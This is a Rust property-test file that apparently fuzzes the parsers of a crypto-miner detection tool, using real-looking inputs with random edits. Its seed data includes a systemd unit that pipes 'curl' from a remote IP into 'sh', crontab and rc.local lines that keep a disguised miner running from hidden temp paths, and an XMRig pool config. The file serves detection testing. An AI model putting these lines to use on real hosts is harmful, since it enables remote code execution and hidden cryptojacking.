//! The fuzz entries under property tests, on stable: raw bytes, and real
//! inputs (the /proc files recorded from miners, a snapshot, the shipped
//! config, crontabs, units, an XMRig config) with random edits, which reach
//! deeper than noise. 256 cases per entry and kind ([`CASES`]); a failure
//! prints the bytes that broke it, and proptest keeps them in
//! `proptest-regressions/` to try first next time.

use proptest::prelude::*;

const FIX: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures");

fn fixture(rel: &str) -> Vec<u8> {
    std::fs::read(format!("{FIX}/{rel}")).unwrap_or_default()
}

/// A real input of each entry, to mutate.
fn seed(entry: &str) -> Vec<u8> {
    match entry {
        "proc_stat" => fixture("proc/xmrig-light/stat"),
        "proc_status" => fixture("proc/xmrig-light/status"),
        "proc_maps" => fixture("proc/xmrig-fast-hugepages/maps"),
        "net_tcp" => b"  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 0100007F:9E48 0100007F:0D05 01 00000000:00000000 00:00000000 00000000     0        0 51234 1 0000000000000000 20 4 30 10 -1\n".to_vec(),
        "mountinfo" => b"22 1 0:21 / /proc rw,nosuid,nodev,noexec,relatime shared:12 - proc proc rw,hidepid=2\n40 22 0:35 / /proc/4242 rw,relatime - tmpfs tmpfs rw\n".to_vec(),
        "cgroup" => fixture("proc/xmrig-light/cgroup"),
        "miner_config" => br#"{"donate-level":1,"cpu":{"enabled":true},"randomx":{"mode":"auto"},"pools":[{"algo":"rx/0","url":"pool.supportxmr.com:443","user":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SRAfqYmqT1KqLPx1C8FXnBUR46R9L3D9Ld29D","pass":"x","tls":true}]}"#.to_vec(),
        "crontab" => b"SHELL=/bin/sh\n@reboot root /var/tmp/.x/kworker -B >/dev/null 2>&1\n*/30 * * * * root pgrep -x kworker >/dev/null || \\\n  /var/tmp/.x/kworker -B\n".to_vec(),
        "systemd_unit" => b"[Unit]\nDescription=x\n[Service]\nExecStartPre=-/bin/true\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.9/s | sh'\nExecStart=@/dev/shm/.x/xmrig xmrig --url pool:3333\n[Install]\nWantedBy=multi-user.target\n".to_vec(),
        "rc_local" => b"#!/bin/sh -e\nnohup /tmp/.ICE-unix/.x/kdevtmpfsi >/dev/null 2>&1 &\nexit 0\n".to_vec(),
        "hashes" => b"9df905e9e3d52df3289974a1baa7e0d595b0e853da930ea4b89c461e35d85d24 kworker\n# comment\n".to_vec(),
        "agent_config" => std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/packaging/minerwatch.toml")).unwrap_or_default(),
        "snapshot" => fixture("snapshots/xmrig-pool.json"),
        "bundle" => bundle_seed(),
        _ => Vec::new(),
    }
}

/// A real bundle of the xmrig-pool snapshot (made once): its manifest,
/// snapshot and report, no /proc files (the pid is not on this host).
fn bundle_seed() -> Vec<u8> {
    static SEED: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    SEED.get_or_init(|| {
        use crate::respond::bundle::{CollectOptions, collect};
        let Ok(snap) = serde_json::from_slice::<crate::snapshot::HostSnapshot>(&seed("snapshot"))
        else {
            return Vec::new();
        };
        let report = crate::judge::judge(&snap, &crate::judge::Policy::default());
        let Ok(dir) = tempfile::tempdir() else {
            return Vec::new();
        };
        let out = dir.path().join("b.tar.gz");
        let opts = CollectOptions {
            proc_root: dir.path().join("no-proc"),
            root: dir.path().to_path_buf(),
            ..CollectOptions::default()
        };
        match collect(&snap, &report, &[], &[], &opts, &out) {
            Ok(_) => std::fs::read(&out).unwrap_or_default(),
            Err(_) => Vec::new(),
        }
    })
    .clone()
}

/// One edit: overwrite, insert or delete at a position (taken modulo the
/// length), with a byte picked to hit the parsers' delimiters often.
#[derive(Debug, Clone)]
enum Edit {
    Set(usize, u8),
    Insert(usize, u8),
    Delete(usize),
    Repeat(usize, usize),
}

fn byte() -> impl Strategy<Value = u8> {
    prop_oneof![
        any::<u8>(),
        prop::sample::select(b" ()\n\t:,=\\\"{}[]#@0-9x\x00\xff".to_vec()),
    ]
}

fn edit() -> impl Strategy<Value = Edit> {
    prop_oneof![
        (any::<usize>(), byte()).prop_map(|(p, b)| Edit::Set(p, b)),
        (any::<usize>(), byte()).prop_map(|(p, b)| Edit::Insert(p, b)),
        any::<usize>().prop_map(Edit::Delete),
        (any::<usize>(), 1usize..64).prop_map(|(p, n)| Edit::Repeat(p, n)),
    ]
}

fn mutate(mut data: Vec<u8>, edits: &[Edit]) -> Vec<u8> {
    for e in edits {
        let len = data.len().max(1);
        match *e {
            Edit::Set(p, b) if !data.is_empty() => data[p % len] = b,
            Edit::Insert(p, b) => data.insert(p % (data.len() + 1), b),
            Edit::Delete(p) if !data.is_empty() => {
                data.remove(p % len);
            }
            // A slice repeated: long fields, many lines.
            Edit::Repeat(p, n) if !data.is_empty() => {
                let start = p % len;
                let end = (start + n).min(data.len());
                let chunk = data[start..end].to_vec();
                for _ in 0..n.min(32) {
                    data.splice(start..start, chunk.iter().copied());
                }
            }
            _ => {}
        }
    }
    data
}

fn run(entry: &str, data: &[u8]) {
    let (_, f) = super::ENTRIES
        .iter()
        .find(|(n, _)| *n == entry)
        .unwrap_or_else(|| panic!("no fuzz entry {entry}"));
    f(data);
}

/// Two property tests per entry: raw bytes, and edits of its real input.
macro_rules! entry_props {
    ($($entry:ident),* $(,)?) => {$(
        mod $entry {
            use super::*;

            proptest! {
                #![proptest_config(ProptestConfig::with_cases(CASES))]

                #[test]
                fn survives_raw_bytes(data in prop::collection::vec(any::<u8>(), 0..4096)) {
                    run(stringify!($entry), &data);
                }

                #[test]
                fn survives_edits_of_real_input(edits in prop::collection::vec(edit(), 1..24)) {
                    let data = mutate(seed(stringify!($entry)), &edits);
                    run(stringify!($entry), &data);
                }
            }
        }
    )*};
}

/// Cases per entry and kind: bounded for CI (a few seconds in all).
const CASES: u32 = 256;

entry_props!(
    proc_stat,
    proc_status,
    proc_maps,
    net_tcp,
    mountinfo,
    cgroup,
    miner_config,
    crontab,
    systemd_unit,
    rc_local,
    hashes,
    agent_config,
    snapshot,
    bundle,
);

#[test]
fn every_entry_has_its_property_tests() {
    let tested = [
        "proc_stat",
        "proc_status",
        "proc_maps",
        "net_tcp",
        "mountinfo",
        "cgroup",
        "miner_config",
        "crontab",
        "systemd_unit",
        "rc_local",
        "hashes",
        "agent_config",
        "snapshot",
        "bundle",
    ];
    let entries: Vec<&str> = super::ENTRIES.iter().map(|(n, _)| *n).collect();
    assert_eq!(entries, tested);
}

#[test]
fn every_entry_has_a_real_seed() {
    for (name, f) in super::ENTRIES {
        let s = seed(name);
        assert!(!s.is_empty(), "no seed for {name}");
        f(&s);
    }
}

/// Writes each entry's seed to `$MINERWATCH_FUZZ_SEEDS/<entry>/seed`, a
/// corpus for `cargo fuzz` to start from (`fuzz/run-all` calls it):
/// `MINERWATCH_FUZZ_SEEDS=dir cargo test --lib export_fuzz_seeds -- --ignored`.
#[test]
#[ignore = "writes files; run by fuzz/run-all"]
fn export_fuzz_seeds() {
    let dir = std::env::var_os("MINERWATCH_FUZZ_SEEDS").expect("set MINERWATCH_FUZZ_SEEDS");
    for (name, _) in super::ENTRIES {
        let d = std::path::Path::new(&dir).join(name);
        std::fs::create_dir_all(&d).expect("create the seed directory");
        std::fs::write(d.join("seed"), seed(name)).expect("write the seed");
    }
}

/// The seeds parse: an edit that breaks nothing reaches the code behind
/// the parser, not just its first check.
#[test]
fn the_seeds_reach_past_the_parsers() {
    use procfs::prelude::*;
    let stat = procfs::process::Stat::from_read(std::io::Cursor::new(seed("proc_stat")));
    assert!(stat.is_ok(), "{stat:?}");
    assert!(
        !crate::observe::host::persistence_entries("cron", "/etc/crontab", &seed("crontab"))
            .is_empty()
    );
    assert!(crate::observe::miner_config::parse("c.json", &seed("miner_config")).is_some());
    let cfg =
        crate::config::Config::parse_file_text(&String::from_utf8_lossy(&seed("agent_config")));
    assert!(cfg.is_ok(), "{cfg:?}");
    assert!(serde_json::from_slice::<crate::snapshot::HostSnapshot>(&seed("snapshot")).is_ok());
    let dir = tempfile::tempdir().expect("tmp");
    let b = dir.path().join("b.tar.gz");
    std::fs::write(&b, seed("bundle")).expect("write");
    assert!(crate::respond::bundle::open(&b).is_ok());
}

/// comm may hold anything but NUL and is cut at 15 bytes by the kernel;
/// an attacker names a process to break a parser that splits on spaces or
/// the first ')'.
#[test]
fn stat_with_spaces_parentheses_and_newlines_in_comm_parses() {
    use procfs::prelude::*;
    let rest = "S 1 4242 4242 0 -1 4194560 100 0 0 0 250 30 0 0 20 0 3 0 9000 1000000 200 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 1 0 0 0 0 0 0 0 0 0 0 0 0 0";
    for comm in [
        "a b",
        "x) R 1 (y",
        "new\nline",
        ") (",
        "((((",
        "kworker/0:1",
    ] {
        let line = format!("4242 ({comm}) {rest}\n");
        let stat = procfs::process::Stat::from_read(std::io::Cursor::new(line.as_bytes()))
            .unwrap_or_else(|e| panic!("{comm:?}: {e}"));
        assert_eq!(stat.comm, comm);
        assert_eq!((stat.utime, stat.stime), (250, 30), "{comm:?}");
        assert_eq!(
            crate::observe::fpu::parse_stat_state(&line),
            Some('S'),
            "{comm:?}"
        );
        assert_eq!(
            crate::observe::fpu::parse_stat_cpu_ticks(&line),
            Some(280),
            "{comm:?}"
        );
    }
}
